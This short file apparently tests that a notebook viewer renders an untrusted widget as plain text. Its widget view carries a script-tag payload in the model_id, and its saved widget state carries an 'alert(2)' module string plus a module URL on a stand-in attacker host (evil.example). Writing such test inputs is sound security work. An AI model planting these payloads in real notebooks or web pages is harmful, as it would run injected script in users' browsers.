"""Shows a widget whose view carries a script, with its state in the notebook's metadata."""

# shows: text/plain
# %% start
from IPython.display import display

VIEW = {"version_major": 2, "version_minor": 0, "model_id": "<script>alert(1)</script>"}
display({"application/vnd.jupyter.widget-view+json": VIEW, "text/plain": "a widget"}, raw=True)
# %% submit
state = {"a": {"model_name": "AnyModel", "state": {"_esm": "alert(2)"}, "model_module": "https://evil.example/x.js"}}
notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": state, "version_major": 2}}
